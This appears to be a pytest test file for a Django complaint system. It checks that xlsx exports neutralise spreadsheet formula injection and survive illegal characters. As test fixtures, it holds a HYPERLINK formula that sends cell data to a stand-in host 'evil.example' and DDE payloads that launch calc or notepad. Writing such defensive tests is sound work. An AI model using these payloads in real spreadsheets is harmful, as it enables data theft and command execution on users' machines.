"""Spreadsheet injection: a waiver reason, a staff member's display name or a department's name
that starts with ``=`` (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``), ``+``, ``-`` or ``@`` is
exported as text — never a live formula — into the penalty ledger, the analysis report and the
discipline list; characters XML cannot carry are dropped instead of failing the export; numbers
stay numbers (issue 15). Every export is fetched over HTTP and read back with openpyxl, and its
raw sheet XML is searched for formula elements."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import kesu
from kesu.clocks import ledger
from kesu.clocks.models import PenaltyEntry
from kesu.clocks.sweep import sweep
from kesu.complaints.models import Complaint
from kesu.core.lifecycle import State
from kesu.core.sinks import append_row, clean_text, sheet_cell
from kesu.org.models import Department, Staff
from tests.factories import bring_to

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看详情")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


def client_for(person) -> Client:
    c = Client()
    c.force_login(person)
    return c


def cells_of(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(xlsx: bytes) -> None:
    assert all(cell.data_type != "f" for cell in cells_of(xlsx))
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), name


def text_cell(xlsx: bytes, value: str):
    found = [c for c in cells_of(xlsx) if c.value == value]
    assert found, f"{value!r} not exported as written"
    return found[0]


@pytest.fixture
def breached(p1, people, now):
    """A complaint whose first-response clock breached: one penalty on the after-sales manager."""
    c = bring_to(State.HANDLING, people, now)
    sweep(now=now + timedelta(hours=1))
    return PenaltyEntry.objects.get(complaint=c)


def test_a_waiver_reason_and_a_staff_name_written_as_formulas_export_as_text(breached, people, now):
    Staff.objects.filter(pk=breached.staff_id).update(display_name=HYPERLINK)
    hr = client_for(people["churs"])
    hr.post(f"/penalties/{breached.pk}/waive/", {"reason": DDE})
    assert PenaltyEntry.objects.get(pk=breached.pk).waive_reason == DDE  # stored as given
    response = hr.get("/penalties/", {"format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    for attack in (DDE, HYPERLINK):
        cell = text_cell(response.content, attack)
        assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even when edited
    amount = [c for c in cells_of(response.content) if c.column == 6 and c.row > 1]
    assert [c.value for c in amount] == [30] and amount[0].data_type == "n"  # numbers stay numbers


def test_control_characters_in_a_stored_reason_are_dropped_not_a_failed_export(breached, people):
    """A reason stored before any input was filtered: openpyxl would raise IllegalCharacterError."""
    nul = "" if connection.vendor == "postgresql" else "\x00"  # PostgreSQL cannot even store a NUL
    PenaltyEntry.objects.filter(pk=breached.pk).update(waive_reason=f"核实{nul}\x07\x1b免罚\x0b\x0c", reason="超时\x08")
    response = client_for(people["churs"]).get("/penalties/", {"format": "xlsx"})
    assert response.status_code == 200
    text_cell(response.content, "核实免罚")
    text_cell(response.content, "超时")


def test_the_report_export_writes_names_starting_with_formula_characters_as_text(breached, people):
    Staff.objects.filter(pk=breached.staff_id).update(display_name=PLUS)
    Department.objects.filter(code="after_sales").update(name=AT)
    response = client_for(people["zhangzong"]).get("/reports/", {"start": "2026-03-01", "end": "2026-03-31",
                                                                 "format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    for attack in (PLUS, AT):
        assert text_cell(response.content, attack).quotePrefix
    received = [c for c in cells_of(response.content) if c.parent.title == "概要" and c.row == 2]
    assert received[1].value == 1 and received[1].data_type == "n"


def test_the_discipline_export_writes_a_department_named_like_a_formula_as_text(breached, people):
    Department.objects.filter(code="after_sales").update(name=MINUS)
    response = client_for(people["churs"]).get("/discipline/", {"month": "2026-03", "format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    cell = text_cell(response.content, MINUS)
    assert cell.data_type == "s" and cell.quotePrefix  # "-2+3", not the number 1


def test_every_xlsx_export_in_kesu_writes_its_cells_through_the_neutralising_writer():
    """In every function that makes a Workbook, no sheet taken from it (wb.active, create_sheet) is
    written by ws.append or ws.cell(value=…): only kesu.core.sinks.append_row writes cells."""
    root = Path(kesu.__file__).resolve().parent
    offenders, exports = [], 0
    for path in root.rglob("*.py"):
        for fn in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(fn, ast.FunctionDef) or not any(
                    isinstance(n, ast.Call) and getattr(n.func, "id", "") == "Workbook" for n in ast.walk(fn)):
                continue
            exports += 1
            sheets = {t.id for n in ast.walk(fn) if isinstance(n, ast.Assign)
                      and ((isinstance(n.value, ast.Attribute) and n.value.attr == "active")
                           or (isinstance(n.value, ast.Call) and getattr(n.value.func, "attr", "") == "create_sheet"))
                      for t in n.targets if isinstance(t, ast.Name)}
            for n in ast.walk(fn):
                if (isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
                        and getattr(n.func.value, "id", None) in sheets
                        and (n.func.attr == "append" or (n.func.attr == "cell" and any(
                            k.arg == "value" for k in n.keywords)) or (n.func.attr == "cell" and len(n.args) > 2))):
                    offenders.append(f"{path.relative_to(root)}:{n.lineno}")
    assert exports >= 3 and offenders == []


# --- properties: arbitrary Unicode through the writer and the ledger export ----------------------

NASTY = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "<", ">", "&", "\x00", "\x07", "\x1b",
                         "\x7f", "\x85", "\u200f", "\u202e", "\ufeff", "\ud800", "\udfff", "\ufffe", "客", "😀",
                         "'", '"', "|", "!", " ", "HYPERLINK(", "cmd|' /C calc'!A0"])
TEXT = st.lists(st.one_of(st.characters(), NASTY), max_size=80).map("".join)
NUMBER = st.one_of(st.integers(-10**12, 10**12), st.floats(allow_nan=False, allow_infinity=False, width=32),
                   st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-10**9, max_value=10**9))


def read_back(text: str) -> str:
    """What a text is once written: cleaned, and XML's own end-of-line handling (CR → LF)."""
    return clean_text(text).replace("\r\n", "\n").replace("\r", "\n")


def saved_and_loaded(rows: list[list]) -> list[tuple]:
    wb = Workbook()
    for row in rows:
        append_row(wb.active, row)
    out = io.BytesIO()
    wb.save(out)
    xlsx = out.getvalue()
    assert_no_formula(xlsx)
    return list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(TEXT, NUMBER), min_size=1, max_size=5))
@example([(DDE, 3), (HYPERLINK, Decimal("1.50")), ("\t=1+1", -1), ("", 0)])
def test_any_text_is_written_as_text_and_numbers_as_numbers(rows):
    back = saved_and_loaded([[text, number] for text, number in rows])
    for (text, number), (got_text, got_number) in zip(rows, back, strict=True):
        assert (got_text or "") == read_back(sheet_cell(text))
        assert isinstance(got_number, int | float) and got_number == pytest.approx(float(number), rel=1e-6)


@settings(max_examples=30, deadline=None)
@given(reason=TEXT, name=TEXT, waiver=TEXT)
@example(reason="超时", name=HYPERLINK, waiver=DDE)
def test_the_ledger_export_takes_any_text_and_gives_it_back(reason, name, waiver):
    """Unsaved rows straight into the real export: what the database hands it, and more."""
    entry = PenaltyEntry(complaint=Complaint(number="260310001"), staff=Staff(username="x", display_name=name),
                         department=Department(code="d", name=name), reason=reason, waive_reason=waiver,
                         amount=Decimal("30.00"), booked_at=timezone.now())
    xlsx = ledger.export_xlsx([entry])  # type: ignore[arg-type]
    assert_no_formula(xlsx)
    rows = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True))
    assert rows[0] == tuple(ledger.HEADERS)
    _at, number, got_reason, got_name, got_dept, amount, _state, got_waiver = rows[1]
    assert (number, amount) == ("260310001", 30)
    assert (got_reason or "", got_waiver or "") == (read_back(reason), read_back(waiver))
    if name:  # an empty display name falls back to the login name
        assert (got_name or "", got_dept or "") == (read_back(name), read_back(name))


@settings(max_examples=20, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=4))
@example([DDE, HYPERLINK, "<b>A&B</b>\x00"])
def test_the_report_exports_take_any_name_in_any_section(names):
    """Every section of the report (levels and categories are the policy's names, locations the
    customer's own words) into the real xlsx and PDF exports, built in memory."""
    from datetime import date

    from kesu.reports import figures
    from kesu.reports.views import _pdf, _xlsx

    rows = [(name, i + 1) for i, name in enumerate(names)]
    money = [(name, Decimal(i) + Decimal("0.5")) for i, name in enumerate(names)]
    r = figures.Report(period=figures.Period(date(2026, 3, 1), date(2026, 4, 1)), department_id=None, received=3,
                       by_level=rows, by_category=rows, by_channel=rows, by_department=rows, by_location=rows,
                       penalties=[(name, 1, amount) for name, amount in money],
                       penalties_by_person=[(name, name, 1, amount) for name, amount in money], compensation=money,
                       on_time=[{"name": n, "met": 1, "missed": 1, "total": 2, "rate": 50.0, "average_minutes": 7}
                                for n in names])
    xlsx = _xlsx(r).content
    assert_no_formula(xlsx)
    wb = load_workbook(io.BytesIO(xlsx))
    for sheet, unnamed in (("按级别", ""), ("按地点", ""), ("扣罚按人", "未指定责任人"), ("时限按时率", "")):
        got = [row[0] or "" for row in wb[sheet].iter_rows(min_row=2, values_only=True)]
        assert got == [read_back(sheet_cell(n)) if n else unnamed for n in names], sheet
    assert [row[1] for row in wb["按地点"].iter_rows(min_row=2, values_only=True)] == [n for _, n in rows]
    assert _pdf(r, None).content.startswith(b"%PDF")
